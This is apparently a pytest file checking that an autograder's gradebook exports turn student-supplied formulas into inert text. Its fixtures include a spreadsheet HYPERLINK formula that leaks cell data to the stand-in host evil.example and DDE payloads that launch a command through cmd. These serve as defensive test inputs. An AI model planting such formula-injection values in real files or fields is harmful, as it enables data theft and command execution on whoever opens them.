"""The gradebook files are safe to open: a student's text is never a formula in a spreadsheet."""

from __future__ import annotations

import csv
from dataclasses import replace

import pytest

from autograder.assignment import load_assignment
from autograder.grading import invalid_results
from autograder.report.gradebook import write_gradebook, write_regrade_diff

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"click for your grade")'
#: one per character a spreadsheet starts a formula with
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            " =1+1"]


@pytest.fixture(scope="module")
def assignment():
    return load_assignment("ift6135-h20-hw1")


def _class(assignment):
    people = [{"name": text, "sid": "-20260001", "email": "@attacker.example"} for text in FORMULAS]
    results = invalid_results(assignment, "=1+1", "-reason")
    return [replace(results, metadata={"submitters": people, "created_at": "=NOW()"})]


def test_formula_in_a_students_name_is_text_in_grades_csv(tmp_path, assignment):
    write_gradebook(_class(assignment), assignment, tmp_path / "grades.csv")
    rows = list(csv.reader((tmp_path / "grades.csv").open(encoding="utf-8", newline="")))
    header, row = rows
    cells = dict(zip(header, row))
    assert cells["names"] == "'" + "; ".join(FORMULAS)
    assert cells["submission_id"] == "'=1+1" and cells["student_ids"].startswith("'-2026")
    assert cells["emails"].startswith("'@") and cells["submitted_at"] == "'=NOW()"
    assert not any(cell.lstrip(" \n").startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert cells["auto_total"] == "0.0" and cells["q5"] == "0.0", "numbers stay numbers"


def test_formula_in_a_students_name_is_a_string_cell_in_the_xlsx(tmp_path, assignment):
    from openpyxl import load_workbook

    write_gradebook(_class(assignment), assignment, tmp_path / "grades.csv", formats=("xlsx",))
    sheet = load_workbook(tmp_path / "grades.xlsx").active
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2])}
    assert all(c.data_type != "f" for line in sheet.iter_rows() for c in line), "no cell is a formula"
    assert row["names"].value.startswith("'=HYPERLINK(") and row["names"].data_type == "s"
    assert row["submission_id"].value == "'=1+1" and row["emails"].data_type == "s"
    assert row["auto_total"].data_type == "n" and row["auto_total"].value == 0


def test_formula_in_a_students_name_is_neutralised_in_the_parquet(tmp_path, assignment):
    import pandas as pd

    write_gradebook(_class(assignment), assignment, tmp_path / "grades.csv", formats=("parquet",))
    table = pd.read_parquet(tmp_path / "grades.parquet")
    assert table["names"][0].startswith("'=HYPERLINK(") and table["auto_total"][0] == 0.0


def test_control_character_in_a_name_does_not_break_the_xlsx(tmp_path, assignment):
    from openpyxl import load_workbook

    results = _class(assignment)
    results = [replace(results[0], metadata={"submitters": [{"name": "Ada\x01\x1b[2J Lovelace", "sid": "1"}]})]
    write_gradebook(results, assignment, tmp_path / "grades.csv", formats=("xlsx",))
    sheet = load_workbook(tmp_path / "grades.xlsx").active
    assert sheet["B2"].value == "Ada[2J Lovelace"


def test_formula_in_a_name_is_text_in_regrade_diff_and_losses_stay_negative_numbers(tmp_path, assignment):
    results = _class(assignment)
    path = write_regrade_diff([("=1+1", "q5", 2.0, 0.5)], results, tmp_path / "regrade_diff.csv")
    header, row = list(csv.reader(path.open(encoding="utf-8", newline="")))
    cells = dict(zip(header, row))
    assert cells["submission_id"] == "'=1+1" and cells["names"].startswith("'=HYPERLINK(")
    assert cells["change"] == "-1.5" and cells["old"] == "2.0"


def test_formula_behind_a_control_character_is_still_text_in_the_xlsx(tmp_path, assignment):
    from openpyxl import load_workbook

    results = _class(assignment)
    results = [replace(results[0], metadata={"submitters": [{"name": "\x01=1+1", "sid": "1"}]})]
    write_gradebook(results, assignment, tmp_path / "grades.csv", formats=("xlsx",))
    assert load_workbook(tmp_path / "grades.xlsx").active["B2"].value == "'=1+1"
